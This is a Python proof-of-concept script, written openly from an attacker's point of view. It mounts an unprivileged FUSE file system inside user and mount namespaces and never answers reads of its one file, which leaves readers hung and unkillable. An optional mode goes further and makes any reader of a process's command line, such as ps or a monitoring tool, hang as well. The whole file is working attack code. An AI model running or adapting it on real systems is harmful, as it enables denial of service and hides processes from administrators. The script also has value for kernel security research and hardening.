"""A file system of the attacker's own, in namespaces in which they are root. A read of its only file never ends: the
reader waits, and cannot even be killed. Prints its own pid once the file system is mounted: other processes of the
attacker reach the mount through /proc/PID/root.

With `blocks`, it also starts a process whose command line nobody can read: another process reads its memory where that
file is mapped, and waits; it allocates more memory, and waits for that reader; a reader of its command line waits for
both."""

import ctypes
import os
import struct
import sys
import time

CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_NOSUID, MS_NODEV = 2, 4
PROT_READ, MAP_PRIVATE, MAP_ANONYMOUS = 1, 2, 0x20
LOOKUP, GETATTR, OPEN, READ, INIT, OPENDIR = 1, 3, 14, 15, 26, 27
ROOT, FILE = (1, 0o040755, 0), (2, 0o100644, 1 << 20)

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def mount(place):
    ids = {"setgroups": "deny", "uid_map": f"0 {os.getuid()} 1", "gid_map": f"0 {os.getgid()} 1"}
    check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    for name, text in ids.items():
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    device = os.open("/dev/fuse", os.O_RDWR)
    options = f"fd={device},rootmode=40000,user_id=0,group_id=0"
    check(libc.mount(b"never", place.encode(), b"fuse", MS_NOSUID | MS_NODEV, options.encode()))
    return device


def attributes(node, mode, size):
    return struct.pack("<6Q10I", node, size, 8, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def answer_to(operation, node):
    """The answer to a request, see fuse(4); None to one that is never answered."""
    if operation == INIT:
        return struct.pack("<4I2H2I2HI28x", 7, 31, 1 << 16, 0, 12, 12, 1 << 16, 1, 16, 0, 0)
    if operation == LOOKUP:
        return struct.pack("<4Q2I", FILE[0], 0, 100, 100, 0, 0) + attributes(*FILE)
    if operation == GETATTR:
        return struct.pack("<Q2I", 100, 0, 0) + attributes(*(ROOT if node == ROOT[0] else FILE))
    if operation in (OPEN, OPENDIR):
        return struct.pack("<Q2I", 1, 0, 0)
    return None


def serve(device):
    while True:
        request = os.read(device, 1 << 17)
        _, operation, unique, node = struct.unpack_from("<2I2Q", request)
        answer = answer_to(operation, node)
        if answer is not None:
            os.write(device, struct.pack("<IiQ", 16 + len(answer), 0, unique) + answer)
        elif operation != READ:
            os.write(device, struct.pack("<IiQ", 16, -38, unique))


def block_command_line(path):
    page = os.sysconf("SC_PAGE_SIZE")
    address = libc.mmap(None, page, PROT_READ, MAP_PRIVATE, os.open(path, os.O_RDONLY), 0)
    number = os.fork()
    if number == 0:
        time.sleep(1)
        libc.mmap(None, page, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)
        sys.exit("its allocation was not blocked")
    memory = os.open(f"/proc/{number}/mem", os.O_RDONLY)
    os.pread(memory, 1, address)
    sys.exit("its memory was read")


place = sys.argv[1]
device = mount(place)
if "blocks" in sys.argv and os.fork() == 0:
    os.close(device)
    block_command_line(f"{place}/file")
if os.fork() == 0:
    os.close(device)
    time.sleep(2)
    print(os.getppid(), flush=True)
    sys.exit()
serve(device)
